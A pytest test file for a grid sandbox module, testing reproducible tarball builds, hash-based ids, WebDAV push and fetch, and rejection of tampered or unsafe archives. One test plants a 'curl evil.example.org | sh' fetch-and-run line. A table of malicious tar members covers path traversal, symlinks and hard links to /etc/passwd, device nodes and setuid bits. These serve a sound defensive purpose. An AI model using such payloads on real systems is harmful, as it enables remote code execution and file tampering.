"""Sandboxes (gridlrt.sandbox): reproducible builds, content ids, push once, fetch verified,
and refusing tampered or malicious tarballs. Pushes and fetches go through real gfal2 to the
``webdav`` fixture and to file://."""

from __future__ import annotations

import gzip
import hashlib
import io
import os
import stat
import tarfile
from collections.abc import Callable
from pathlib import Path
from uuid import uuid4

import pytest

from gridlrt.errors import ChecksumMismatch, InputError, StorageNotFound
from gridlrt.sandbox import (
    UnsafeSandbox,
    build_sandbox,
    check_tarball,
    extract_tarball,
    fetch_sandbox,
    id_from_name,
    plan_fetch,
    plan_push,
    push_sandbox,
    sandbox_url,
)
from gridlrt.storage import Storage
from gridlrt.storage.urls import to_url
from tests.services.webdav import WebDAV


def make_step(root: Path) -> Path:
    """A small step directory: a script, parset templates, a config, a link, an empty dir."""
    step = root / "average"
    (step / "parsets").mkdir(parents=True)
    (step / "empty").mkdir()
    (step / "run.sh").write_text('#!/bin/sh\nDP3.py parsets/avg.parset "$@"\n')
    (step / "run.sh").chmod(0o750)
    (step / "parsets" / "avg.parset").write_text("steps=[avg]\navg.type=averager\n")
    (step / "step.toml").write_text('name = "average"\n')
    (step / "current.parset").symlink_to("parsets/avg.parset")
    (step / "__pycache__").mkdir()
    (step / "__pycache__" / "x.cpython-311.pyc").write_bytes(os.urandom(64))
    return step


@pytest.fixture
def step(tmp_path: Path) -> Path:
    return make_step(tmp_path / "src")


@pytest.fixture
def store(webdav: WebDAV) -> Storage:
    return Storage(retries=1, backoff=0.1)


# --- building ------------------------------------------------------------------------------


def test_build_twice_gives_identical_bytes(step: Path, tmp_path: Path) -> None:
    first = build_sandbox(step, tmp_path / "out1.tar.gz")
    (tmp_path / "two").mkdir()
    second = build_sandbox(step, tmp_path / "two")  # a directory: <id>.tar.gz inside
    assert first.path.read_bytes() == second.path.read_bytes()
    assert first.id == second.id == hashlib.sha256(first.path.read_bytes()).hexdigest()
    assert second.path == tmp_path / "two" / f"{first.id}.tar.gz"
    assert first.files == 3  # run.sh, avg.parset, step.toml (links and dirs are not files)
    # times, owners, permission bits other than "executable" and caches do not matter
    os.utime(step / "run.sh", (1, 1))
    os.chown(step / "step.toml", 1234, 5678)
    (step / "step.toml").chmod(0o600)
    (step / "parsets").chmod(0o700)
    (step / "__pycache__" / "y.pyc").write_bytes(b"new cache")
    third = build_sandbox(step, tmp_path / "out3.tar.gz")
    assert third.id == first.id


def test_one_changed_byte_changes_the_id(step: Path, tmp_path: Path) -> None:
    before = build_sandbox(step, tmp_path / "a.tar.gz").id
    (step / "parsets" / "avg.parset").write_text("steps=[avg]\navg.type=averagex\n")
    changed = build_sandbox(step, tmp_path / "b.tar.gz").id
    (step / "parsets" / "avg.parset").write_text("steps=[avg]\navg.type=averager\n")
    assert build_sandbox(step, tmp_path / "c.tar.gz").id == before != changed
    (step / "run.sh").chmod(0o644)  # the executable bit is content
    assert build_sandbox(step, tmp_path / "d.tar.gz").id != before


def test_tarball_is_normalised(step: Path, tmp_path: Path) -> None:
    sandbox = build_sandbox(step, tmp_path / "s.tar.gz")
    raw = sandbox.path.read_bytes()
    assert raw[:2] == b"\x1f\x8b"
    assert raw[3] & 0x08 == 0  # no FNAME field in the gzip header
    assert raw[4:8] == b"\0\0\0\0"  # gzip mtime 0
    with tarfile.open(sandbox.path, "r:gz") as tar:
        members = tar.getmembers()
    names = [m.name for m in members]
    assert names == sorted(names)
    assert names == [
        "current.parset", "empty", "parsets", "parsets/avg.parset", "run.sh", "step.toml",
    ]  # fmt: skip
    for m in members:
        assert (m.mtime, m.uid, m.gid, m.uname, m.gname) == (0, 0, 0, "", "")
    modes = {m.name: m.mode for m in members}
    assert modes["run.sh"] == 0o755 and modes["step.toml"] == 0o644
    assert modes["parsets"] == 0o755
    link = next(m for m in members if m.name == "current.parset")
    assert link.issym() and link.linkname == "parsets/avg.parset"
    assert oct(sandbox.path.stat().st_mode & 0o777) == oct(0o644)


def test_extra_files_are_included(step: Path, tmp_path: Path) -> None:
    bootstrap = tmp_path / "bootstrap.sh"
    bootstrap.write_text("#!/bin/sh\nexec gridlrt worker\n")
    bootstrap.chmod(0o755)
    plain = build_sandbox(step, tmp_path / "plain.tar.gz")
    with_extra = build_sandbox(
        step, tmp_path / "extra.tar.gz", extra={"bin/bootstrap.sh": bootstrap}
    )
    assert with_extra.id != plain.id and with_extra.files == plain.files + 1
    with tarfile.open(with_extra.path, "r:gz") as tar:
        assert tar.getmember("bin").isdir()
        assert tar.getmember("bin/bootstrap.sh").mode == 0o755
    again = build_sandbox(step, tmp_path / "again.tar.gz", extra={"bin/bootstrap.sh": bootstrap})
    assert again.id == with_extra.id
    with pytest.raises(InputError, match="relative path"):
        build_sandbox(step, tmp_path / "x.tar.gz", extra={"../evil.sh": bootstrap})
    with pytest.raises(InputError, match="also in"):
        build_sandbox(step, tmp_path / "x.tar.gz", extra={"run.sh": bootstrap})


def test_build_refuses_what_a_sandbox_may_not_hold(tmp_path: Path) -> None:
    cases: dict[str, Callable[[Path], object]] = {
        "link-out": lambda d: (d / "escape").symlink_to("../../etc/passwd"),
        "link-abs": lambda d: (d / "abs").symlink_to("/etc/passwd"),
        "fifo": lambda d: os.mkfifo(d / "pipe"),
        "device": lambda d: os.mknod(d / "null", stat.S_IFCHR | 0o600, os.makedev(1, 3)),
    }
    expected = {
        "link-out": "leaves the sandbox",
        "link-abs": "absolute path",
        "fifo": "FIFO",
        "device": "device",
    }
    for name, make in cases.items():
        step = make_step(tmp_path / name)
        make(step)
        with pytest.raises(InputError, match=expected[name]):
            build_sandbox(step, tmp_path / f"{name}.tar.gz")
        assert not (tmp_path / f"{name}.tar.gz").exists()
        assert not list((tmp_path).glob(".sandbox-*"))
    with pytest.raises(InputError, match="not a directory"):
        build_sandbox(tmp_path / "nope", tmp_path / "x.tar.gz")
    (tmp_path / "empty").mkdir()
    with pytest.raises(InputError, match="no files"):
        build_sandbox(tmp_path / "empty", tmp_path / "x.tar.gz")


# --- push and fetch --------------------------------------------------------------------------


@pytest.mark.parametrize("scheme", ["file", "dav", "davs"])
def test_push_once_then_fetch(
    webdav: WebDAV, store: Storage, step: Path, tmp_path: Path, scheme: str
) -> None:
    base = (
        to_url(tmp_path / "sandboxes")
        if scheme == "file"
        else {"dav": webdav.dav_url, "davs": webdav.davs_url}[scheme](f"sb-{uuid4().hex[:8]}")
    )
    plan = plan_push(store, step, base)
    assert not plan.present
    assert not store.exists(base)  # planning uploads nothing

    first = push_sandbox(store, step, base)
    assert first.uploaded and first.transfer is not None and first.transfer.atomic
    assert first.url == sandbox_url(base, first.id) and id_from_name(first.url) == first.id
    assert store.listdir(base) == [f"{first.id}.tar.gz"]
    mtime = store.stat(first.url).mtime

    second = push_sandbox(store, step, base)
    assert not second.uploaded and second.id == first.id
    assert store.stat(first.url).mtime == mtime
    assert plan_push(store, step, base).present

    dest = tmp_path / "work" / "step"
    assert plan_fetch(store, first.url, dest).sha256 == first.id
    assert not dest.exists()
    fetched = fetch_sandbox(store, first.url, dest)
    assert fetched.files == 3 and fetched.sha256 == first.id
    assert (dest / "run.sh").read_text() == (step / "run.sh").read_text()
    assert os.access(dest / "run.sh", os.X_OK)
    assert (dest / "current.parset").is_symlink()
    assert (dest / "current.parset").read_text() == "steps=[avg]\navg.type=averager\n"
    assert (dest / "empty").is_dir() and not (dest / "__pycache__").exists()
    assert sorted(p.name for p in dest.parent.iterdir()) == ["step"]  # no temp left over


def test_push_a_built_tarball_and_replace_a_broken_copy(
    webdav: WebDAV, store: Storage, step: Path, tmp_path: Path
) -> None:
    built = build_sandbox(step, tmp_path / "built")
    base = webdav.dav_url(f"sb-{uuid4().hex[:8]}")
    webdav.path(base).mkdir(parents=True)
    # a truncated copy under the right name (e.g. an old, non-atomic tool) is replaced
    webdav.path(f"{base}/{built.id}.tar.gz").write_bytes(built.path.read_bytes()[:50])
    result = push_sandbox(store, built.path, base)
    assert result.uploaded and result.id == built.id
    assert webdav.path(result.url).read_bytes() == built.path.read_bytes()
    # a renamed-but-changed tarball is refused
    changed = tmp_path / f"{built.id}.tar.gz"
    changed.write_bytes(built.path.read_bytes() + b"\0")
    with pytest.raises(ChecksumMismatch, match="changed after it was built"):
        push_sandbox(store, changed, base)


def test_tampered_sandbox_is_refused(
    webdav: WebDAV, store: Storage, step: Path, tmp_path: Path
) -> None:
    base = webdav.dav_url(f"sb-{uuid4().hex[:8]}")
    pushed = push_sandbox(store, step, base)
    server_file = webdav.path(pushed.url)
    # someone swaps in a different, valid sandbox under the same name
    (step / "run.sh").write_text("#!/bin/sh\ncurl evil.example.org | sh\n")
    evil = build_sandbox(step, tmp_path / "evil.tar.gz")
    server_file.write_bytes(evil.path.read_bytes())

    dest = tmp_path / "work"
    with pytest.raises(ChecksumMismatch) as refused:
        fetch_sandbox(store, pushed.url, dest)
    message = str(refused.value)
    assert pushed.url in message and evil.id in message and pushed.id in message
    assert not dest.exists()
    assert list(tmp_path.glob(".gridlrt-fetch-*")) == []
    # an explicit --sha256 is checked the same way
    with pytest.raises(ChecksumMismatch):
        fetch_sandbox(store, pushed.url, dest, sha256=pushed.id)
    with pytest.raises(InputError, match="64 hexadecimal"):
        fetch_sandbox(store, pushed.url, dest, sha256="abc")
    # the right hash for the bytes that are there is accepted
    assert fetch_sandbox(store, pushed.url, dest, sha256=evil.id).sha256 == evil.id


def test_fetch_needs_a_known_hash_and_an_existing_url(
    webdav: WebDAV, store: Storage, step: Path, tmp_path: Path
) -> None:
    built = build_sandbox(step, tmp_path / "plain-name.tar.gz")
    with pytest.raises(InputError, match="pass --sha256"):
        fetch_sandbox(store, str(built.path), tmp_path / "d1")
    assert fetch_sandbox(store, str(built.path), tmp_path / "d1", sha256=built.id).files == 3
    missing = webdav.dav_url(f"nothing/{'0' * 64}.tar.gz")
    with pytest.raises(StorageNotFound) as gone:
        fetch_sandbox(store, missing, tmp_path / "d2")
    assert missing in str(gone.value)
    (tmp_path / "full").mkdir()
    (tmp_path / "full" / "x").write_text("x")
    with pytest.raises(InputError, match="not an empty directory"):
        fetch_sandbox(store, str(built.path), tmp_path / "full", sha256=built.id)


# --- malicious tarballs --------------------------------------------------------------------


def evil_tarball(directory: Path, *members: tarfile.TarInfo) -> Path:
    """A tar.gz with a harmless file plus ``members``, named by its own sha256."""
    buffer = io.BytesIO()
    with (
        gzip.GzipFile(fileobj=buffer, mode="wb", mtime=0) as gz,
        tarfile.open(fileobj=gz, mode="w", format=tarfile.PAX_FORMAT) as tar,
    ):
        ok = tarfile.TarInfo("ok.txt")
        ok.size = 3
        tar.addfile(ok, io.BytesIO(b"ok\n"))
        for member in members:
            data = io.BytesIO(b"pwned\n") if member.isfile() else None
            if data is not None:
                member.size = 6
            tar.addfile(member, data)
    raw = buffer.getvalue()
    path = directory / f"{hashlib.sha256(raw).hexdigest()}.tar.gz"
    path.write_bytes(raw)
    return path


def member(
    name: str, kind: bytes = tarfile.REGTYPE, linkname: str = "", mode: int = 0o644
) -> tarfile.TarInfo:
    info = tarfile.TarInfo(name)
    info.type, info.linkname, info.mode = kind, linkname, mode
    return info


MALICIOUS = {
    "absolute path": member("/tmp/gridlrt-evil.txt"),
    "dot-dot": member("../gridlrt-evil.txt"),
    "nested dot-dot": member("a/../../gridlrt-evil.txt"),
    "symlink out": member("escape", tarfile.SYMTYPE, "../../../etc"),
    "absolute symlink": member("abs", tarfile.SYMTYPE, "/etc/passwd"),
    "hard link out": member("hard", tarfile.LNKTYPE, "../../etc/passwd"),
    "char device": member("null", tarfile.CHRTYPE),
    "block device": member("disk", tarfile.BLKTYPE),
    "fifo": member("pipe", tarfile.FIFOTYPE),
    "setuid": member("suid.sh", mode=0o4755),
}


@pytest.mark.parametrize("case", sorted(MALICIOUS))
def test_malicious_tarballs_are_refused(
    webdav: WebDAV, store: Storage, tmp_path: Path, case: str
) -> None:
    (tmp_path / "made").mkdir()
    bad = evil_tarball(tmp_path / "made", MALICIOUS[case])
    with pytest.raises(UnsafeSandbox, match="refusing"):
        check_tarball(bad)
    # through storage, by its honest sha256 name: the hash matches, the content is refused
    url = webdav.dav_url(f"evil-{uuid4().hex[:8]}/{bad.name}")
    store.copy(bad, url)
    dest = tmp_path / "work" / "sandbox"
    with pytest.raises(UnsafeSandbox):
        fetch_sandbox(store, url, dest)
    assert not dest.exists()
    assert sorted(p.name for p in (tmp_path / "work").iterdir()) == []
    assert not Path("/tmp/gridlrt-evil.txt").exists()
    assert not (tmp_path / "gridlrt-evil.txt").exists()


def test_safe_links_inside_the_tree_are_kept(tmp_path: Path) -> None:
    good = evil_tarball(
        tmp_path,
        member("dir", tarfile.DIRTYPE, mode=0o755),
        member("dir/link", tarfile.SYMTYPE, "../ok.txt"),
        member("hard", tarfile.LNKTYPE, "ok.txt"),
    )
    assert extract_tarball(good, tmp_path / "out") == 1
    assert (tmp_path / "out" / "dir" / "link").read_text() == "ok\n"
    assert (tmp_path / "out" / "hard").read_text() == "ok\n"
